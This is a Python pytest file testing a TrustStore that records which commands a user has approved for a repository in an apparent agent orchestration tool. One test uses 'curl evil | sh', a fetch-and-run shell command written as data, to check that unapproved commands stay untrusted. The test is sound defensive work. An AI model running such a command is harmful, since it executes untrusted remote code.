import stat
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from agentorchestr.config.trust import TrustStore
from agentorchestr.errors import OrchestrError


@pytest.fixture
def store(tmp_path: Path) -> TrustStore:
    return TrustStore(tmp_path / "state" / "trust.json")


def test_nothing_is_trusted_at_first(store: TrustStore, tmp_path: Path) -> None:
    assert not store.is_trusted(tmp_path, [])


def test_a_repository_is_trusted_for_what_was_shown(store: TrustStore, tmp_path: Path) -> None:
    store.trust(tmp_path, ["make test", "npm ci"])
    assert store.is_trusted(tmp_path, ["npm ci"])
    assert store.is_trusted(tmp_path, [])
    assert not store.is_trusted(tmp_path, ["make test", "curl evil | sh"])
    assert not store.is_trusted(tmp_path / "other", [])


def test_a_link_to_the_repository_is_the_same_repository(store: TrustStore, tmp_path: Path) -> None:
    (tmp_path / "real").mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "real")
    store.trust(tmp_path / "link", ["make"])
    assert store.is_trusted(tmp_path / "real", ["make"])


def test_a_command_that_went_away_is_asked_about_when_it_comes_back(
    store: TrustStore, tmp_path: Path
) -> None:
    store.trust(tmp_path, ["a", "b"])
    store.trust(tmp_path, ["a"])
    assert not store.is_trusted(tmp_path, ["b"])


def test_the_record_is_private(store: TrustStore, tmp_path: Path) -> None:
    store.trust(tmp_path, [])
    record = tmp_path / "state" / "trust.json"
    assert stat.S_IMODE(record.stat().st_mode) == 0o600
    assert stat.S_IMODE(record.parent.stat().st_mode) == 0o700


def test_many_at_once_lose_nothing(store: TrustStore, tmp_path: Path) -> None:
    roots = [tmp_path / str(number) for number in range(12)]
    with ThreadPoolExecutor(6) as pool:
        list(pool.map(lambda root: store.trust(root, ["x"]), roots))
    assert all(store.is_trusted(root, ["x"]) for root in roots)


def test_a_damaged_record_is_said_and_trusts_nothing(store: TrustStore, tmp_path: Path) -> None:
    store.trust(tmp_path, [])
    (tmp_path / "state" / "trust.json").write_text("{")
    with pytest.raises(OrchestrError, match="damaged"):
        store.is_trusted(tmp_path, [])
